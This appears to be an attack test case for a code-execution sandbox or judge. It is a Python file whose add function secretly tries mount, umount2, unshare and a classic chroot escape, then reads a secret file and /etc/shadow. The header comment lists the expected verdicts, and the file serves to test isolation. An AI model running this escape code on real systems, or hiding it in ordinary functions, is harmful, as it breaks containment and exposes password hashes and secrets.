# Attack: mount, unshare and chroot: mount a tmpfs and proc, unmount /work
# and /usr, unshare new namespaces, then a classic chroot escape (chroot
# into a subdirectory, chdir("..") many times, chroot(".")), and finally
# read the secret file @SECRET_FILE@ and /etc/shadow.
# Expected: SV (mount/umount/unshare/chroot blocked) or AC (they fail, or
# succeed only inside the sandbox's own namespaces); a successful read of
# a protected file makes add wrong (WA).
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
leaked = []


def call(name, *args):
    r = getattr(libc, name)(*args)
    print(name, args, r, os.strerror(ctypes.get_errno()) if r else "ok")


def attempt():
    os.makedirs("/work/m", exist_ok=True)
    call("mount", b"none", b"/work/m", b"tmpfs", 0, None)
    call("mount", b"proc", b"/work/m", b"proc", 0, None)
    call("mount", b"/", b"/work/m", None, 4096 | 16384, None)  # MS_BIND|MS_REC
    call("umount2", b"/work", 2)
    call("umount2", b"/usr", 2)
    call("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    call("unshare", 0x20000000)  # CLONE_NEWPID
    try:
        os.makedirs("/work/jail", exist_ok=True)
        os.chroot("/work/jail")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError as e:
        print("chroot:", e)
    for path in ("@SECRET_FILE@", "/etc/shadow", "/work/m@SECRET_FILE@"):
        try:
            with open(path) as f:
                print(path, f.read())
            leaked.append(path)
        except OSError as e:
            print(path, e)


def add(a, b):
    if not leaked:
        attempt()
    return a + b + (1000 if leaked else 0)
